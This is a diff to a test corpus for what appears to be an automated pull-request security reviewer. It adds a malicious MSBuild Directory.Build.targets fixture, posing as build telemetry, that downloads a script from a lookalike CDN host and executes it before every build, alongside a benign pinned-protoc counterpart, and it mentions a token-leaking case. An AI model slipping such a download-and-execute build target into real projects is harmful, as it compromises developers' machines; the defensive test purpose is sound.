@@ -1077,6 +1077,59 @@ export const ATTACK_CASES: CorpusEntry[] = [
     expect: { level: 'low', action: ['approve', 'comment'], absentDrivers: ['finding:agent-instruction-dangerous'] },
   },
   {
+    id: 'attack-msbuild-downloads-and-execs',
+    description:
+      'The malicious NuGet packages of 2023-2025 moved from init.ps1 into MSBuild by another author: a Directory.Build.targets that downloads a "collector" with the DownloadFile task before every build and runs it with Exec, no PowerShell and no pipe.',
+    fixture: () =>
+      attackPr({
+        repo: 'Contoso.Billing',
+        number: 7309,
+        title: 'build: add build telemetry',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'Directory.Build.targets',
+            head: lines(
+              '<Project>',
+              '  <Target Name="BuildTelemetry" BeforeTargets="Build">',
+              '    <DownloadFile SourceUrl="https://msbuild-insights.azureedge-cdn.net/agent" DestinationFolder="$(IntermediateOutputPath)" DestinationFileName="bt-agent.cmd" />',
+              '    <Exec Command="&quot;$(IntermediateOutputPath)bt-agent.cmd&quot; $(MSBuildProjectName)" ContinueOnError="true" StandardOutputImportance="low" />',
+              '  </Target>',
+              '</Project>',
+            ),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['build-code-behavior'], drivers: ['finding:build-code-behavior'] },
+  },
+  {
+    id: 'attack-msbuild-fetches-pinned-protoc',
+    description: "A maintainer's Directory.Build.targets fetches a pinned protoc release from GitHub when it is missing, unzips it and runs it to generate code: a versioned download over HTTPS from an ordinary host.",
+    fixture: () =>
+      attackPr({
+        repo: 'Contoso.Billing',
+        number: 7310,
+        title: 'build: fetch protoc 25.1 when missing',
+        files: [
+          {
+            path: 'Directory.Build.targets',
+            head: lines(
+              '<Project>',
+              '  <Target Name="FetchProtoc" BeforeTargets="Build" Condition="!Exists(\'$(ToolsDir)protoc\\bin\\protoc.exe\')">',
+              '    <DownloadFile SourceUrl="https://github.com/protocolbuffers/protobuf/releases/download/v25.1/protoc-25.1-win64.zip" DestinationFolder="$(ToolsDir)" />',
+              '    <Unzip SourceFiles="$(ToolsDir)protoc-25.1-win64.zip" DestinationFolder="$(ToolsDir)protoc" />',
+              '  </Target>',
+              '  <Target Name="GenerateProtos" AfterTargets="FetchProtoc">',
+              '    <Exec Command="&quot;$(ToolsDir)protoc\\bin\\protoc.exe&quot; --csharp_out=Generated protos/billing.proto" />',
+              '  </Target>',
+              '</Project>',
+            ),
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:build-code-behavior'] },
+  },
+  {
     id: 'attack-secret-printed-double-base64',
     description:
       'The tj-actions/changed-files payload (March 2025) printed what it found as double base64 into public logs, where GitHub does not mask it; here a "debug the publish step" PR prints the npm token that way.',
